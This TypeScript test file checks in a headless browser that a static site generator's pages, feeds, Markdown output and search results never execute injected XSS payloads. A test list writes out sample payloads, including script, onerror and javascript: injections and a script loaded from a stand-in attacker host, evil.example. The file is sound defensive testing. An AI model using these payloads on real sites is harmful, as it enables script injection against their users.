import { mkdirSync, readFileSync, rmSync } from "node:fs";
import { join } from "node:path";
import { toHtml } from "hast-util-to-html";
import { toHast } from "mdast-util-to-hast";
import type { Browser, Page } from "playwright-core";
import sharp from "sharp";
import { listFiles } from "../../src/content/list-files";
import { parseMarkdown } from "../../src/markdown/parse";
import { pageFile, pathOfFile } from "../../src/model/page-file";
import { readManifest } from "../../src/release/read-manifest";
import { type RunningServer, serve } from "../../src/serve/serve";
import { fixtureNow, siteRootOf, testFolder } from "../fixture-site/places";
import { build } from "../support/command";
import { collectedPayloads } from "../support/payloads";
import { writeFiles } from "../support/test-folder";
import { launchChromium } from "./chromium";
import { payloadSite } from "./payload-site";

/** A post for each payload takes minutes (`RUNG_EVERY_STEP=1`); a usual run has several in one. */
const [length, stride] = process.env.RUNG_EVERY_STEP ? [0, 1] : [1_600, 16];

const payloads = collectedPayloads();
const folder = join(testFolder, "payloads");
const content = join(folder, "content");
const site = join(folder, "site");
let server: RunningServer;
let browser: Browser;

beforeAll(async () => {
  forget();
  mkdirSync(content, { recursive: true });
  const image = sharp({ create: { width: 8, height: 8, channels: 3, background: "#8a5a3c" } });
  writeFiles(content, payloadSite(payloads, length, await image.png().toBuffer()));
  await build(["--content", content, "--out", site, "--now", fixtureNow]);
  server = await serve({ directory: site, port: 0, pathPrefix: "" });
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
  await server?.close();
  forget();
});

function forget(): void {
  for (const made of [folder, siteRootOf(content)]) rmSync(made, { recursive: true, force: true });
}

/** A page without any policy, and what was caught in it. Nothing gets out to other sites; pictures of other sites are allowed to try. */
async function openTrap(): Promise<{ page: Page; caught: string[] }> {
  const context = await browser.newContext({
    bypassCSP: true,
    viewport: { width: 400, height: 300 },
  });
  const page = await context.newPage();
  const caught: string[] = [];
  const note = (what: string) => caught.push(`${decodeURI(new URL(page.url()).pathname)}: ${what}`);
  await page.exposeFunction("caught", note);
  page.on("dialog", (dialog) => {
    note("dialog");
    void dialog.dismiss();
  });
  await context.route(
    (url) => url.origin !== new URL(server.url).origin,
    (route) => {
      const request = route.request();
      if (request.resourceType() !== "image") note(`asks for ${request.url()}`);
      return route.abort();
    },
  );
  await page.addInitScript(() => {
    for (const name of ["alert", "confirm", "prompt", "print", "open"])
      Object.assign(window, { [name]: () => void Reflect.get(window, "caught")(name) });
  });
  return { page, caught };
}

/** Does with everything on the page what a reader might, and looks for what is no part of any page of ours. */
const provoke = (page: Page): Promise<void> =>
  page.evaluate(async () => {
    const note: (what: string) => void = Reflect.get(window, "caught");
    const harmless = /^(https?|mailto|tel):$/;
    const protocolOf = (address: string | null): string => {
      const base = document.baseURI === "about:blank" ? "http://localhost/" : document.baseURI;
      return URL.canParse(address ?? "", base) ? new URL(address ?? "", base).protocol : "https:";
    };
    for (const type of ["click", "submit"])
      addEventListener(type, (event) => {
        const link = event.target instanceof Element && event.target.closest("a,area");
        if (!link || harmless.test(protocolOf(link.getAttribute("href")))) event.preventDefault();
      });
    const strange = "iframe,frame,object,embed,applet,base,portal,math,meta[http-equiv=refresh]";
    for (const { outerHTML } of document.querySelectorAll(strange)) note(outerHTML);
    const gestures = [
      "mouseover",
      "mouseenter",
      "mousemove",
      "wheel",
      "keydown",
      "input",
      "toggle",
    ];
    for (const element of document.querySelectorAll("body, body *")) {
      if (!(element.attributes instanceof NamedNodeMap)) {
        note("a form whose fields hide what it is");
        continue;
      }
      for (const { name, value } of element.attributes) {
        if (name.startsWith("on") || name === "srcdoc") note(`${name}="${value}"`);
        if (!/^(xlink:)?(href|src|action|formaction|data|poster|ping|background)$/.test(name))
          continue;
        if (!harmless.test(protocolOf(value))) note(`${name}="${value}"`);
      }
      for (const type of gestures) element.dispatchEvent(new Event(type, { bubbles: true }));
      if (element instanceof HTMLElement || element instanceof SVGElement) element.focus();
      if (element.closest("main"))
        element.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
    }
    await new Promise((done) => setTimeout(done, 10));
  });

/** The paths of all pages. */
async function pagePaths(): Promise<string[]> {
  const manifest = await readManifest(site);
  return (manifest?.files ?? [])
    .filter(({ cache, forwards }) => cache === "page" && !forwards)
    .map(({ path }) => pathOfFile(path));
}

const at = (path: string): string => new URL(encodeURI(path), server.url).href;

/** Visits paths, several at once. */
async function visitAll(
  paths: readonly string[],
  visit: (page: Page, path: string) => Promise<void>,
): Promise<string[]> {
  const traps = await Promise.all([openTrap(), openTrap()]);
  const left = [...paths];
  await Promise.all(
    traps.map(async ({ page }) => {
      for (let path = left.pop(); path !== undefined; path = left.pop()) await visit(page, path);
      await page.context().close();
    }),
  );
  return traps.flatMap(({ caught }) => caught);
}

test("nothing runs on any page, whatever a reader does there, though no policy forbids it", async () => {
  const paths = await pagePaths();
  expect(paths.filter((path) => path.startsWith("/payload-")).length).toBeGreaterThan(30);
  const caught = await visitAll(paths, async (page, path) => {
    await page.goto(at(path));
    await provoke(page);
  });
  expect(caught).toEqual([]);
});

test("each page's structured data is whole: no text in it ends it", async () => {
  const { page } = await openTrap();
  await page.setContent("");
  for (const path of await pagePaths()) {
    const html = readFileSync(join(site, pageFile(path)), "utf8");
    const data = await page.evaluate((text) => {
      const parsed = new DOMParser().parseFromString(text, "text/html");
      const found = parsed.querySelectorAll('script[type="application/ld+json"]');
      return [...found].map((script) => script.textContent);
    }, html);
    expect(data.map((text) => Object.keys(JSON.parse(text)))).toEqual(
      data.map(() => ["@context", "@graph"]),
    );
  }
});

test("nothing runs of what feeds and Markdown carry, wherever it is shown", async () => {
  const feed = JSON.parse(readFileSync(join(site, "feed.json"), "utf8"));
  const items: { content_html: string; summary?: string }[] = feed.items;
  const files = await listFiles(site);
  const markdown = files.filter((file) => /\.md$|llms\.txt$/.test(file));
  expect(items.length).toBeGreaterThan(9);
  expect(markdown.length).toBeGreaterThan(30);
  const shown = [
    ...items.map(({ content_html }) => content_html),
    ...markdown.map((file) => asHtml(readFileSync(join(site, file), "utf8"))),
  ];
  const caught = await visitAll(shown, async (page, html) => {
    await page.setContent(html);
    await provoke(page);
  });
  expect(caught).toEqual([]);
});

/** As a program does that lets all of Markdown's HTML through. */
const asHtml = (markdown: string): string => {
  const body = markdown.replace(/^---\n[\s\S]*?\n---\n/, "");
  const tree = toHast(parseMarkdown(body, { gfm: false }), { allowDangerousHtml: true });
  return toHtml(tree, { allowDangerousHtml: true });
};

test("nothing runs in the results of a search, which show payloads as they are written", async () => {
  const { page, caught } = await openTrap();
  const titles: string[] = [];
  for (const query of ["alert", "script", "onerror", "offer"]) {
    await page.goto(at(`/search/?q=${query}`));
    await page
      .getByRole("region", { name: "Answers found" })
      .getByRole("heading")
      .first()
      .waitFor();
    await provoke(page);
    titles.push(...(await page.locator("main h2").allTextContents()));
  }
  expect(titles.filter((title) => /<script.*<\/script>/i.test(title))).not.toEqual([]);
  expect(caught).toEqual([]);
});

const traps: readonly (readonly [payload: string, caught: readonly string[]])[] = [
  ["<script>alert(1)</script>", ["alert"]],
  ["<img src=x onerror=confirm(1)>", ['onerror="confirm(1)"', "confirm"]],
  ["<b onmouseover=print()>x</b>", ['onmouseover="print()"', "print"]],
  ["<a href=javascript:prompt(1)>x</a>", ['href="javascript:prompt(1)"', "prompt"]],
  ["<script src=https://evil.example/x.js></script>", ["asks for https://evil.example/x.js"]],
  ["<iframe srcdoc=x></iframe>", ['<iframe srcdoc="x"></iframe>', 'srcdoc="x"']],
];

test("what would run, is caught", async () => {
  const { page, caught } = await openTrap();
  let payload = "";
  await page.route("**/page-0/", async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace("</main>", `${payload}</main>`);
    return route.fulfill({ response, body });
  });
  for (const [each, expected] of traps) {
    payload = each;
    await page.goto(at("/page-0/"));
    await provoke(page);
    const found = caught.splice(0).map((what) => what.replace("/page-0/: ", ""));
    expect([...new Set(found)].sort()).toEqual([...expected].sort());
  }
});

test("many of the payloads would run, if a page held them as they are", async () => {
  const { page, caught } = await openTrap();
  const tried = payloads.filter((_, index) => index % stride === 0);
  let running = 0;
  for (const payload of tried) {
    await page.goto(at("/robots.txt"));
    await page.setContent(payload);
    await provoke(page);
    if (caught.splice(0).length > 0) running += 1;
  }
  expect(running).toBeGreaterThan(tried.length / 3);
});
